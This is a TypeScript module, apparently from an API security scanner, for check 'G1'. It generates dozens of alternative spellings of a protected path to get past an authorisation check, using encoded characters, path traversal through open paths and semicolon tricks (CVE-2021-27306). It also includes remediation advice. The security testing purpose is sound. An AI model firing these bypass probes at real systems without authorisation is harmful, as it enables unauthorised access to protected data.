/** G1: other spellings of a protected path, which the check does not recognise and the router does (CVE-2021-27306). No token is sent. */
import type { Attack } from '../attack.ts';
import { elsewhereProbe } from '../probes.ts';

/** Where a path that needs no token is usually found, when none was named. */
const USUAL_OPEN_PATHS = ['/public', '/healthz', '/static', '/login'];

export const paths: Attack = {
  id: 'G1',
  title: 'protected path under another spelling',
  why: 'The check sees a path that needs no token, the API serves the one that does.',
  mend: 'Put the path into one canonical form before the check and route by the same; answer 400 to what has two readings; deny by default.',
  severity: 'critical',
  probes: ({ target, given }) => {
    const [path = '/', query] = target.split(/(?=\?)/u);
    const open = given.openPaths.length > 0 ? given.openPaths : USUAL_OPEN_PATHS;
    const spellings = [...spellingsOf(path), ...open.flatMap((prefix) => throughOpen(prefix, path))];
    return [...new Set(spellings)]
      .filter((spelling) => spelling !== path)
      .map((spelling) => elsewhereProbe(spelling, { target: `${spelling}${query ?? ''}`, headers: [] }));
  },
};

function spellingsOf(path: string): readonly string[] {
  const [, first = '', ...rest] = path.split('/');
  const join = (...segments: readonly string[]) => `/${[...segments, ...rest].join('/')}`;
  const initial = first.slice(0, 1);
  const encoded = `%${initial.charCodeAt(0).toString(16)}`;
  return [
    `/${path}`,
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `${path}/..;/`,
    `${path};x`,
    `${path};x=.json`,
    `${path}.json`,
    `${path}%00`,
    `${path}%20`,
    `${path}%09`,
    `${path}%23`,
    `${path}%3f`,
    `${path}#x`,
    `${path}%2f`,
    `/.${path}`,
    `/%2e${path}`,
    `/;${path}`,
    `/.;${path}`,
    `/\\${path.slice(1)}`,
    `/%5c${path.slice(1)}`,
    `/%2f${path.slice(1)}`,
    ...(first === ''
      ? []
      : [
          join(first.toUpperCase()),
          join(initial.toUpperCase() + first.slice(1)),
          join(encoded + first.slice(1)),
          join(`%25${encoded.slice(1)}${first.slice(1)}`),
          join(`${first}%252f`),
        ]),
  ];
}

/** Into an open path, and out of it again. */
function throughOpen(open: string, path: string): readonly string[] {
  const prefix = open.replace(/\/+$/u, '');
  const up = '/..'.repeat(Math.max(prefix.split('/').length - 1, 1));
  return [
    `${prefix}${up}${path}`,
    `${prefix}${up.replaceAll('..', '%2e%2e')}${path}`,
    `${prefix}${up.replaceAll('..', '.%2e')}${path}`,
    `${prefix}${up.replaceAll('/', '%2f')}${path}`,
    `${prefix}${up.replaceAll('/', '%5c')}${path}`,
    `${prefix}${up.replaceAll('/', '\\')}${path}`,
    `${prefix}${up.replaceAll('..', '%252e%252e')}${path}`,
    `${prefix}${up.replaceAll('..', '..;')}${path}`,
    `${path}${'/..'.repeat(Math.max(path.split('/').length - 1, 1))}${prefix}${up}${path}`,
    `${path}#${prefix}`,
    `${path}%23${prefix}`,
    `${path};${prefix}`,
  ];
}
